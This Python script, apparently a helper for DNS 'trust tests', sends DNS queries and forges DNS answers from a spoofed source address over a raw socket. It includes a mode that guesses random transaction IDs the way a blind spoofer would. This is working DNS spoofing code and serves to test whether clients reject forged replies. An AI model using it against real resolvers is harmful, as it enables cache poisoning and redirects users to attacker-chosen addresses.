#!/usr/bin/python3
"""dnsforge.py - DNS queries and forged answers for the trust tests (stdlib only).

  dnsforge.py query  --server IP --name NAME --id ID --port PORT
      send one A query from PORT (the client side); do not wait for an answer
  dnsforge.py answer --src IP --dst IP --dport PORT --id ID --name NAME --a IP
                     [--count N] [--random-ids] [--avoid-id ID]
      send N answers that claim to come from SRC port 53 (a raw socket: the
      source address is whatever the forger says), each NAME A IP, TTL 300.
      --random-ids: each answer a random DNS id (a blind spoofer's guesses),
      never --avoid-id.
Prints what it sent, one line.
"""
import argparse
import random
import socket
import struct


def name_wire(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def message(dns_id, name, answer_ip=None):
    qd = name_wire(name) + struct.pack("!HH", 1, 1)
    if answer_ip is None:
        return struct.pack("!HHHHHH", dns_id, 0x0100, 1, 0, 0, 0) + qd
    an = struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(answer_ip)
    return struct.pack("!HHHHHH", dns_id, 0x8180, 1, 1, 0, 0) + qd + an


def ipv4_udp(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    # the kernel fills in the total length and the header checksum (raw(7))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, random.randrange(65536), 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def cmd_query(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.port))
    s.sendto(message(a.id, a.name), (a.server, 53))
    print(f"query {a.name} id {a.id} from port {a.port} to {a.server}")


def cmd_answer(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ids = []
    for _ in range(a.count):
        dns_id = a.id
        if a.random_ids:
            while dns_id == a.id or dns_id == a.avoid_id:
                dns_id = random.randrange(65536)
        ids.append(dns_id)
        s.sendto(ipv4_udp(a.src, a.dst, 53, a.dport, message(dns_id, a.name, a.a)), (a.dst, 0))
    print(f"sent {a.count} answers {a.name} A {a.a} from {a.src}:53 to {a.dst}:{a.dport}")


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    q = sub.add_parser("query")
    q.add_argument("--server", required=True)
    q.add_argument("--name", required=True)
    q.add_argument("--id", type=int, required=True)
    q.add_argument("--port", type=int, required=True)
    f = sub.add_parser("answer")
    f.add_argument("--src", required=True)
    f.add_argument("--dst", required=True)
    f.add_argument("--dport", type=int, required=True)
    f.add_argument("--id", type=int, default=-1)
    f.add_argument("--name", required=True)
    f.add_argument("--a", required=True)
    f.add_argument("--count", type=int, default=1)
    f.add_argument("--random-ids", action="store_true")
    f.add_argument("--avoid-id", type=int, default=-1)
    a = p.parse_args()
    cmd_query(a) if a.cmd == "query" else cmd_answer(a)


if __name__ == "__main__":
    main()
